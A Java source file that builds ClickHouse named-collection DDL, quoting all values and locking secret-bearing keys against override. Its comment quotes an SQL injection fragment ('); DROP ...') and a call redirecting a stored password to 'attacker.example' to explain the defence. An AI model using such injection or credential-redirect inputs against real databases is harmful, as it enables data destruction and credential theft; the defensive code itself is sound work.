package io.chgate.vault;

import io.chgate.sql.SqlText;
import java.util.Map;
import java.util.Set;

/**
 * The DDL of chgate-managed named collections. Every identifier and value is quoted, so hostile values (quotes,
 * backslashes, newlines, {@code '); DROP ...}) are stored verbatim and cannot change the statement. Keys that carry
 * or direct the secret are NOT OVERRIDABLE: otherwise {@code postgresql(nc, host = 'attacker.example')} would make
 * ClickHouse send the stored password to a host of the client's choosing.
 */
public final class NamedCollectionDdl {
    /** Keys a query may override: they choose what to read, never where or as whom. */
    public static final Set<String> OVERRIDABLE = Set.of("table", "schema", "on_conflict", "replace_query",
            "on_duplicate_clause", "kafka_topic_list", "kafka_group_name", "kafka_format");
    private static final Set<String> NUMERIC = Set.of("port");

    private NamedCollectionDdl() {
    }

    public static String create(String name, Map<String, String> values, String cluster) {
        return "CREATE NAMED COLLECTION IF NOT EXISTS " + SqlText.quoteIdentifier(name) + onCluster(cluster) + " AS "
                + assignments(values);
    }

    public static String alter(String name, Map<String, String> values, String cluster) {
        return "ALTER NAMED COLLECTION " + SqlText.quoteIdentifier(name) + onCluster(cluster) + " SET "
                + assignments(values);
    }

    public static String drop(String name, String cluster) {
        return "DROP NAMED COLLECTION IF EXISTS " + SqlText.quoteIdentifier(name) + onCluster(cluster);
    }

    /** A managed database whose tables are the external database's: {@code ENGINE = PostgreSQL(nc[, schema = s])}. */
    public static String createDatabase(String database, String engine, String collection, String schema) {
        return "CREATE DATABASE IF NOT EXISTS " + SqlText.quoteIdentifier(database) + " ENGINE = " + engine + "("
                + SqlText.quoteIdentifier(collection) + (schema == null ? "" : ", `schema` = " + SqlText.quoteString(schema)) + ")";
    }

    private static String assignments(Map<String, String> values) {
        StringBuilder sb = new StringBuilder();
        values.forEach((key, value) -> {
            if (sb.length() > 0) {
                sb.append(", ");
            }
            String literal = NUMERIC.contains(key) && value.matches("[0-9]{1,10}") ? value : SqlText.quoteString(value);
            sb.append(SqlText.quoteIdentifier(key)).append(" = ").append(literal)
                    .append(OVERRIDABLE.contains(key) ? " OVERRIDABLE" : " NOT OVERRIDABLE");
        });
        return sb.toString();
    }

    private static String onCluster(String cluster) {
        return cluster == null || cluster.isBlank() ? "" : " ON CLUSTER " + SqlText.quoteIdentifier(cluster);
    }
}
